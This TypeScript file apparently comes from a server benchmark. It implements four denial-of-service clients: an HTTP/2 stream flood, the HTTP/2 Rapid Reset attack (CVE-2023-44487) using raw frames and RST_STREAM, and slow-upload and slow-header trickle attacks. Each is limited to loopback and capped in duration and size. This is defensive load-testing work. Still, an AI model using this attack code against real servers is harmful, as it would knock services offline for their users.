// Hostile clients for the "under attack" bench (issue 10): each runs for a bounded time with a
// bounded number of connections and streams, against loopback only, and returns what it did.
// HTTP/2 attacks write raw frames (a client library would pace itself, honour SETTINGS, or refuse
// to open streams it cannot finish); HTTP/1.1 attacks are plain TLS sockets that trickle bytes.
import tls from 'node:tls';
import { isIP } from 'node:net';
// The raw HTTP/2 frame writer the tests use too: one definition of the frame layout.
import { frame } from '../../test/support/h2-frames.ts';

export interface AttackTarget {
  /** A loopback address (127.0.0.0/8 or ::1): the attacks refuse anything else. */
  readonly host: string;
  readonly port: number;
  /** SNI and Host of the app under attack. */
  readonly servername: string;
  /** The attacker's own source address (a loopback one), so it is another client than the probe. */
  readonly localAddress?: string;
}

export interface AttackResult {
  readonly attack: string;
  readonly seconds: number;
  /** TLS connections opened (an attack reconnects when the server closes it). */
  readonly connections: number;
  /** HTTP/2 streams opened, or HTTP/1.1 requests started. */
  readonly requests: number;
  /** Bytes the attacker wrote after the handshakes. */
  readonly bytesSent: number;
  /** Connections the server closed or reset before the attack ended. */
  readonly closedByServer: number;
  readonly errors: number;
  readonly lastError: string;
}

export type AttackName = 'h2-stream-flood' | 'h2-rapid-reset' | 'slow-uploads' | 'slow-headers';

export interface AttackOptions {
  readonly seconds: number;
  /** h2-stream-flood: streams per connection; slow-*: connections. */
  readonly count?: number;
}

export const ATTACKS: Readonly<Record<AttackName, (target: AttackTarget, options: AttackOptions) => Promise<AttackResult>>> = {
  'h2-stream-flood': h2StreamFlood,
  'h2-rapid-reset': h2RapidReset,
  'slow-uploads': slowUploads,
  'slow-headers': slowHeaders,
};

// Hard ceilings whatever the caller asks: a bench must not become the attack it measures.
const MAX_SECONDS = 120;
const MAX_CONNECTIONS = 1000;
const MAX_STREAMS_PER_CONNECTION = 20_000;

function checkTarget(target: AttackTarget): void {
  const loopback = (isIP(target.host) === 4 && target.host.startsWith('127.')) || target.host === '::1';
  if (!loopback) throw new Error(`attacks run against loopback only, not ${target.host}`);
}

function deadlineOf(options: AttackOptions): number {
  return performance.now() + Math.min(options.seconds, MAX_SECONDS) * 1000;
}

interface Tally {
  connections: number;
  requests: number;
  bytesSent: number;
  closedByServer: number;
  errors: number;
  lastError: string;
}

const tally = (): Tally => ({ connections: 0, requests: 0, bytesSent: 0, closedByServer: 0, errors: 0, lastError: '' });
const result = (attack: string, started: number, t: Tally): AttackResult => ({ attack, seconds: Math.round((performance.now() - started) / 100) / 10, ...t });
const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

function connect(target: AttackTarget, alpn: string, t: Tally): Promise<tls.TLSSocket | undefined> {
  return new Promise((resolve) => {
    const socket = tls.connect({ host: target.host, port: target.port, servername: target.servername, rejectUnauthorized: false, ALPNProtocols: [alpn], ...(target.localAddress ? { localAddress: target.localAddress } : {}) });
    socket.setNoDelay(true);
    const fail = (error: Error) => {
      t.errors++;
      t.lastError = error.message;
      socket.destroy();
      resolve(undefined);
    };
    socket.once('error', fail);
    socket.once('secureConnect', () => {
      socket.off('error', fail);
      t.connections++;
      // From here on the attack decides; errors are counted, never thrown.
      socket.on('error', (error) => {
        t.errors++;
        t.lastError = error.message;
      });
      socket.resume();
      resolve(socket);
    });
  });
}

// ---------------------------------------------------------------------------------------------
// HTTP/2 frames (RFC 9113) and HPACK literals (RFC 7541 §6.2.2: without indexing, new name).

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const FLAG_ACK = 0x1;


function hpackLiteral(name: string, value: string): Buffer {
  const n = Buffer.from(name);
  const v = Buffer.from(value);
  if (n.length > 126 || v.length > 126) throw new Error('header too long for this encoder');
  return Buffer.concat([Buffer.from([0x00, n.length]), n, Buffer.from([v.length]), v]);
}

function headerBlock(method: string, authority: string, extra: [string, string][] = []): Buffer {
  return Buffer.concat([
    hpackLiteral(':method', method),
    hpackLiteral(':scheme', 'https'),
    hpackLiteral(':authority', authority),
    hpackLiteral(':path', '/'),
    ...extra.map(([name, value]) => hpackLiteral(name, value)),
  ]);
}

const SETTINGS_EMPTY = frame(0x4, 0, 0, Buffer.alloc(0));
const SETTINGS_ACK = frame(0x4, FLAG_ACK, 0, Buffer.alloc(0));
const rstStream = (stream: number) => frame(0x3, 0, stream, Buffer.from([0, 0, 0, 0x8])); // CANCEL

/** Answers the server's SETTINGS with an ACK (else a server may give up on the connection) and ignores the rest. */
function h2Reader(socket: tls.TLSSocket): void {
  let buffered: Buffer = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    buffered = buffered.length ? Buffer.concat([buffered, chunk]) : chunk;
    while (buffered.length >= 9) {
      const length = buffered.readUIntBE(0, 3);
      if (buffered.length < 9 + length) break;
      const type = buffered[3];
      const flags = buffered[4]!;
      if (type === 0x4 && (flags & FLAG_ACK) === 0 && socket.writable) socket.write(SETTINGS_ACK);
      buffered = buffered.subarray(9 + length);
    }
  });
}

function write(socket: tls.TLSSocket, data: Buffer, t: Tally): Promise<void> {
  t.bytesSent += data.length;
  if (socket.write(data)) return Promise.resolve();
  return new Promise((resolve) => {
    const done = () => {
      socket.off('drain', done);
      socket.off('close', done);
      resolve();
    };
    socket.once('drain', done);
    socket.once('close', done);
  });
}

/** An HTTP/2 connection past the preface and our SETTINGS; undefined (after a pause) if it failed. */
async function openH2(target: AttackTarget, t: Tally): Promise<tls.TLSSocket | undefined> {
  const socket = await connect(target, 'h2', t);
  if (!socket) {
    await sleep(100);
    return undefined;
  }
  h2Reader(socket);
  await write(socket, Buffer.concat([PREFACE, SETTINGS_EMPTY]), t);
  return socket;
}

function closed(socket: tls.TLSSocket): Promise<void> {
  return socket.destroyed ? Promise.resolve() : new Promise((resolve) => socket.once('close', () => resolve()));
}

/**
 * Finding 1: one connection opens thousands of POST streams (END_HEADERS, no DATA, no END_STREAM)
 * and keeps them open. Reconnects when the server closes the connection, one at a time.
 */
export async function h2StreamFlood(target: AttackTarget, options: AttackOptions): Promise<AttackResult> {
  checkTarget(target);
  const started = performance.now();
  const deadline = deadlineOf(options);
  const streams = Math.min(options.count ?? 5000, MAX_STREAMS_PER_CONNECTION);
  const t = tally();
  while (performance.now() < deadline) {
    const socket = await openH2(target, t);
    if (!socket) continue;
    const block = headerBlock('POST', target.servername, [['content-type', 'application/octet-stream'], ['content-length', '1000000']]);
    for (let i = 0, id = 1; i < streams && !socket.destroyed && performance.now() < deadline; i += 100) {
      const batch: Buffer[] = [];
      for (let j = 0; j < 100 && i + j < streams; j++, id += 2) batch.push(frame(0x1, FLAG_END_HEADERS, id, block));
      t.requests += batch.length;
      await write(socket, Buffer.concat(batch), t);
    }
    await Promise.race([closed(socket), sleep(Math.max(0, deadline - performance.now()))]);
    if (socket.destroyed) t.closedByServer++;
    socket.destroy();
    if (performance.now() < deadline) await sleep(50);
  }
  return result('h2-stream-flood', started, t);
}

/** Finding 5 (CVE-2023-44487): open a stream and reset it at once, as fast as the socket takes it. */
export async function h2RapidReset(target: AttackTarget, options: AttackOptions): Promise<AttackResult> {
  checkTarget(target);
  const started = performance.now();
  const deadline = deadlineOf(options);
  const t = tally();
  const block = headerBlock('GET', target.servername);
  while (performance.now() < deadline) {
    const socket = await openH2(target, t);
    if (!socket) continue;
    // Stream ids run out at 2^31; a connection stops well before.
    for (let id = 1; !socket.destroyed && performance.now() < deadline && id < 2 ** 31 - 400; ) {
      const batch: Buffer[] = [];
      for (let j = 0; j < 100; j++, id += 2) batch.push(frame(0x1, FLAG_END_HEADERS | FLAG_END_STREAM, id, block), rstStream(id));
      t.requests += 100;
      await write(socket, Buffer.concat(batch), t);
      // Let the event loop breathe (and the server's frames in) between batches.
      await new Promise<void>((resolve) => setImmediate(resolve));
    }
    if (socket.destroyed) t.closedByServer++;
    socket.destroy();
    if (performance.now() < deadline) await sleep(50);
  }
  return result('h2-rapid-reset', started, t);
}

/**
 * Opens `count` HTTP/1.1 connections (50 at a time), each writing `start` and then one byte of
 * `trickle` per second until the deadline. Returns when every connection is closed.
 */
async function trickle(attack: string, target: AttackTarget, options: AttackOptions, start: (index: number) => string, trickleBytes: string): Promise<AttackResult> {
  checkTarget(target);
  const started = performance.now();
  const deadline = deadlineOf(options);
  const count = Math.min(options.count ?? 300, MAX_CONNECTIONS);
  const t = tally();
  const sockets = new Set<tls.TLSSocket>();
  const done: Promise<void>[] = [];
  const one = async (index: number) => {
    const socket = await connect(target, 'http/1.1', t);
    if (!socket) return;
    sockets.add(socket);
    t.requests++;
    await write(socket, Buffer.from(start(index)), t);
    for (let i = 0; !socket.destroyed && performance.now() < deadline; i++) {
      await sleep(1000);
      if (socket.destroyed || performance.now() >= deadline) break;
      await write(socket, Buffer.from(trickleBytes[i % trickleBytes.length]!), t);
    }
    if (socket.destroyed) t.closedByServer++;
    socket.destroy();
    sockets.delete(socket);
  };
  for (let opened = 0; opened < count && performance.now() < deadline; opened += 50) {
    const batch = Array.from({ length: Math.min(50, count - opened) }, (_, i) => one(opened + i));
    done.push(...batch);
    await sleep(20);
  }
  await Promise.all(done);
  for (const socket of sockets) socket.destroy();
  return result(attack, started, t);
}

/** Finding 2: many uploads that send one body byte per second to an app that reads bodies. */
export function slowUploads(target: AttackTarget, options: AttackOptions): Promise<AttackResult> {
  return trickle(
    'slow-uploads',
    target,
    options,
    (index) => `POST /upload/${index} HTTP/1.1\r\nHost: ${target.servername}\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\nx`,
    'xxxxxxxx',
  );
}

/** Finding 7: many requests whose headers arrive one byte per second and never end. */
export function slowHeaders(target: AttackTarget, options: AttackOptions): Promise<AttackResult> {
  return trickle('slow-headers', target, options, (index) => `GET /slow/${index} HTTP/1.1\r\nHost: ${target.servername}\r\n`, 'X-Slow: abcdefgh\r\n');
}
